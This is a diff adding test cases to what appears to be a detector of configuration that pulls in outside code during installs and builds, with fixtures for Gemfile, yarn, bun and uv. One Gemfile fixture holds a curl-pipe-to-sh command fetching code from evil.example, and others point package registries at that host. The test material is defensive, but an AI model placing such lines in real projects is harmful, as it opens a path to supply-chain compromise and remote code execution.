@@ -206,6 +206,28 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       },
     ],
     [
+      'a Gemfile holding Ruby code, for any bundle command',
+      'bundle exec rspec',
+      {
+        Gemfile: "source 'https://rubygems.org'\nsystem('curl -s http://evil.example/x | sh')\ngem 'rake'\n",
+      },
+    ],
+    [
+      'a yarn registry nobody stated',
+      'yarn install --immutable',
+      { '.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\n' },
+    ],
+    [
+      'a bun registry nobody stated',
+      'bun install',
+      { 'bunfig.toml': '[install]\nregistry = "http://evil.example/"\n' },
+    ],
+    [
+      'a uv.toml index nobody stated',
+      'uv sync',
+      { 'uv.toml': '[[index]]\nurl = "http://evil.example/simple"\ndefault = true\n' },
+    ],
+    [
       'uv run syncs from an index nobody stated first',
       'uv run pytest -x -q',
       {
@@ -235,6 +257,19 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
 
 describe('ordinary configuration stays quiet', () => {
   it.each<[string, string, Record<string, string>]>([
+    [
+      'a Gemfile of the DSL only',
+      'bundle exec rspec',
+      {
+        Gemfile:
+          "source 'https://rubygems.org'\nruby '3.3.0'\ngem 'rails', '~> 7.1'\ngroup :test do\n  gem 'rspec'\nend\n",
+      },
+    ],
+    [
+      'the default yarn registry',
+      'yarn install',
+      { '.yarnrc.yml': 'nodeLinker: node-modules\nnpmRegistryServer: "https://registry.yarnpkg.com"\n' },
+    ],
     [
       'cargo with sccache, clang, aliases, env',
       'cargo build',
